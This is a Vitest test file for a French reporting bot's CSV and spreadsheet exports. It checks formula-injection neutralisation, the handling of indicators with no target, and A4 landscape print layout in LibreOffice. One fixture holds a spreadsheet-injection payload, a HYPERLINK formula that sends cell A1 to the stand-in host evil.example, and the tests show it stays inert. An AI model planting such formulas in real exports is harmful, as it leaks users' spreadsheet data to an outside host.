import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { csvLines, inertCsvText } from "../../src/core/csv.ts";
import { buildActivitiesCsv, buildIndicatorsCsv } from "../../src/features/reports/csv.ts";
import type { CopilQuery } from "../../src/features/reports/data.ts";
import { buildCopilWorkbook } from "../../src/features/reports/workbook.ts";
import { createTestBot, type TestBot } from "../support/bot.ts";
import {
  CSV_EVERY_SHEET,
  CSV_FRENCH_IN,
  filesIn,
  isA4Landscape,
  libreOfficeConvert,
  pdfPages,
  scratchFolder,
} from "../support/real-readers.ts";
import { formulaCells, loadWorkbook, readWorkbookFile, sheetMatrix, worksheetNamed } from "../support/sheet-matrix.ts";
import { day } from "./reports-support.ts";

// What members and plans write that a spreadsheet would run: a workshop title that builds a link
// from another cell, an indicator copied from a plan's bullet list, a correction of -3.
const INJECTED_TITLE = '=HYPERLINK("http://evil.example/?d="&A1;"voir")';
const BULLET_LABEL = "- Nombre de permanences itinérantes tenues";

// LibreOffice starts slowly on a loaded machine (the whole suite runs in parallel): more than the default minute.
const LIBREOFFICE_TIMEOUT = 180_000;

let bot: TestBot;
let query: CopilQuery;
let workbook: Uint8Array;
let activitiesCsv: Uint8Array;
let indicatorsCsv: Uint8Array;
let noTarget: string[];
let scratch: Awaited<ReturnType<typeof scratchFolder>>;
beforeAll(async () => {
  bot = await createTestBot();
  scratch = await scratchFolder();
  const prisma = bot.db.prisma;
  const networkId = bot.networkId;
  const adviser = (
    await prisma.platformIdentity.findFirstOrThrow({ where: { platform: "local", externalId: "demo-adviser" } })
  ).memberId;
  const base = {
    networkId,
    memberId: adviser,
    durationMin: 90,
    participants: 6,
    place: "OTHER_PLACE" as const,
    themes: ["security"],
  };
  await prisma.activityReport.createMany({
    data: [
      { ...base, kind: "COLLECTIVE", date: day("2026-03-02"), workshopTitle: INJECTED_TITLE },
      { ...base, kind: "COLLECTIVE", date: day("2026-03-03"), workshopTitle: "@SOMME(A1:A9)" },
      { ...base, kind: "INDIVIDUAL", date: day("2026-03-04"), participants: 1 },
    ],
  });
  const indicators = await prisma.indicator.findMany({ where: { networkId }, orderBy: { label: "asc" } });
  const manual = indicators.find((i) => i.computation === "MANUAL")!;
  await prisma.indicator.update({ where: { id: manual.id }, data: { label: BULLET_LABEL } });
  await prisma.progressReport.create({
    data: {
      networkId,
      memberId: adviser,
      ficheActionId: manual.ficheActionId,
      indicatorId: manual.id,
      date: day("2026-04-01"),
      value: -3,
      text: "-3 : doublons retirés du comptage",
    },
  });
  // A plan that sets no numeric target stores null (since the file imports' schema; 0 was the old way).
  const untargeted = indicators.filter((i) => i.id !== manual.id && Number(i.target) > 0).slice(0, 2);
  await prisma.indicator.updateMany({ where: { id: { in: untargeted.map((i) => i.id) } }, data: { target: null } });
  noTarget = [...indicators.filter((i) => i.target === null).map((i) => i.label), ...untargeted.map((i) => i.label)];
  query = {
    networkId,
    range: { from: { year: 2026, month: 1, day: 1 }, to: { year: 2026, month: 6, day: 30 } },
    locale: "fr",
  };
  [workbook, activitiesCsv, indicatorsCsv] = await Promise.all([
    buildCopilWorkbook(prisma, query),
    buildActivitiesCsv(prisma, query),
    buildIndicatorsCsv(prisma, query),
  ]);
});
afterAll(async () => {
  await scratch?.remove();
  await bot.close();
});

const csvRows = (bytes: Uint8Array | string) =>
  parse(Buffer.from(bytes), { bom: true, delimiter: ";", relax_column_count: true }) as string[][];
const rowOf = (rows: string[][], label: string) => rows.find((r) => r[3] === label)!;

describe("a CSV cell that a spreadsheet would run as a formula", () => {
  it("gets an apostrophe and quotes for =, +, -, @, tab and carriage return; other text and numbers go as they are", () => {
    for (const start of ["=", "+", "-", "@", "\t", "\r"]) expect(inertCsvText(`${start}1+1`)).toBe(`'${start}1+1`);
    expect(inertCsvText("Atelier « = »")).toBe("Atelier « = »");
    expect(csvLines([["=1+1", { raw: "-3" }, { raw: "2,5" }, "-3", "Zoé"]])).toBe(`"'=1+1";-3;2,5;"'-3";Zoé\r\n`);
  });

  it("stays text in LibreOffice in the activities and the indicators files, while numbers stay numbers", {
    timeout: LIBREOFFICE_TIMEOUT,
  }, async () => {
    expect(Buffer.from(activitiesCsv).toString("utf8")).toContain(
      `"'=HYPERLINK(""http://evil.example/?d=""&A1;""voir"")"`,
    );
    const indicators = csvRows(indicatorsCsv);
    expect(rowOf(indicators, `'${BULLET_LABEL}`)[4]).toBe("-3");

    const files = [
      { name: "activites.csv", bytes: activitiesCsv },
      { name: "indicateurs.csv", bytes: indicatorsCsv },
    ];
    const out = await libreOfficeConvert(scratch.path, files, "xlsx", CSV_FRENCH_IN);
    for (const name of ["activites.xlsx", "indicateurs.xlsx"]) {
      const sheet = (await readWorkbookFile(join(out, name))).worksheets[0]!;
      expect(formulaCells(sheet), name).toEqual([]);
    }
    const activities = sheetMatrix(worksheetNamed(await readWorkbookFile(join(out, "activites.xlsx")), "activites"));
    const titles = activities.map((r) => r[15]);
    expect(titles).toContain(`'${INJECTED_TITLE}`);
    expect(titles).toContain("'@SOMME(A1:A9)");
    expect(activities.slice(1).every((r) => typeof r[8] === "number" && typeof r[3] === "number")).toBe(true);
    const summary = sheetMatrix(worksheetNamed(await readWorkbookFile(join(out, "indicateurs.xlsx")), "indicateurs"));
    const bullet = summary.find((r) => r[3] === `'${BULLET_LABEL}`)!;
    expect(bullet[4]).toBe(-3);
  });
});

describe("an indicator whose plan sets no numeric target", () => {
  it("has an empty target and says « pas de cible chiffrée » in the workbook and the CSV, as the chat does", async () => {
    expect(noTarget.length).toBeGreaterThanOrEqual(2);
    const summary = sheetMatrix(worksheetNamed(await loadWorkbook(workbook), "Synthèse"), { defval: null });
    const csv = csvRows(indicatorsCsv);
    for (const label of noTarget) {
      const shown = label === BULLET_LABEL ? `'${label}` : label;
      expect(summary.find((r) => r[3] === label)!.slice(5, 7)).toEqual([null, "pas de cible chiffrée"]);
      expect(rowOf(csv, shown).slice(5, 7)).toEqual(["", "pas de cible chiffrée"]);
    }
    const targeted = summary.slice(1).filter((r) => !noTarget.includes(r[3] as string));
    expect(targeted.length).toBeGreaterThan(0);
    expect(targeted.every((r) => typeof r[5] === "number" && (r[5] as number) > 0 && typeof r[6] === "number")).toBe(
      true,
    );
  });
});

describe("the COPIL workbook on paper", () => {
  it("sets every sheet to A4 landscape, fit to width, header row repeated and frozen", async () => {
    const book = await loadWorkbook(workbook);
    expect(book.worksheets.length).toBeGreaterThan(3);
    for (const sheet of book.worksheets) {
      expect(sheet.pageSetup, sheet.name).toMatchObject({
        paperSize: 9,
        orientation: "landscape",
        fitToPage: true,
        fitToWidth: 1,
        fitToHeight: 0,
        printTitlesRow: "1:1",
      });
      expect(sheet.views[0], sheet.name).toMatchObject({ state: "frozen", ySplit: 1 });
    }
    // Long headers wrap instead of being cut at the cell's border.
    for (const name of ["Synthèse", "Activités"])
      expect(book.getWorksheet(name)!.getRow(1).getCell(4).alignment).toMatchObject({ wrapText: true });
  });

  it("LibreOffice prints it as A4 landscape pages, a page per small sheet, and reads the values the bot wrote", {
    timeout: LIBREOFFICE_TIMEOUT,
  }, async () => {
    // The same folder, so the same LibreOffice profile, as the CSV test: a second profile costs a slower start.
    const folder = scratch.path;
    const files = [{ name: "copil.xlsx", bytes: workbook }];
    const book = await loadWorkbook(workbook);
    const names = book.worksheets.map((s) => s.name);
    const pages = await pdfPages(join(await libreOfficeConvert(folder, files, "pdf"), "copil.pdf"));
    expect(pages.every(isA4Landscape)).toBe(true);
    // Fit to width: no sheet's columns spill onto extra pages; this period's sheets each fit on one.
    expect(pages).toHaveLength(names.length);

    const read = await filesIn(await libreOfficeConvert(folder, files, CSV_EVERY_SHEET));
    expect([...read.keys()].sort()).toEqual(names.map((n) => `copil-${n}.csv`).sort());
    for (const name of names) {
      const ours = sheetMatrix(worksheetNamed(book, name), { defval: "", blankrows: true });
      const theirs = csvRows(read.get(`copil-${name}.csv`)!);
      expect(
        theirs.map((r) => r.map(asOurs)),
        name,
      ).toEqual(
        ours.map((r) =>
          [...r.map(asOurs), ...Array(Math.max(0, theirs[0]!.length - r.length)).fill("")].slice(0, theirs[0]!.length),
        ),
      );
    }
  });
});

/** A cell as text both sides agree on: dates as their day, shares and numbers to two decimals (LibreOffice shows 45%). */
function asOurs(value: unknown): string {
  const round = (n: number) => String(Math.round(n * 100) / 100);
  if (value instanceof Date) return value.toISOString().slice(0, 10);
  if (typeof value === "number") return round(value);
  const text = String(value);
  if (/^-?\d+(\.\d+)?$/.test(text)) return round(Number(text));
  const percent = /^(-?\d+)%$/.exec(text);
  if (percent) return round(Number(percent[1]) / 100);
  const usDate = /^(\d{2})\/(\d{2})\/(\d{4})$/.exec(text);
  return usDate ? `${usDate[3]}-${usDate[1]}-${usDate[2]}` : text;
}
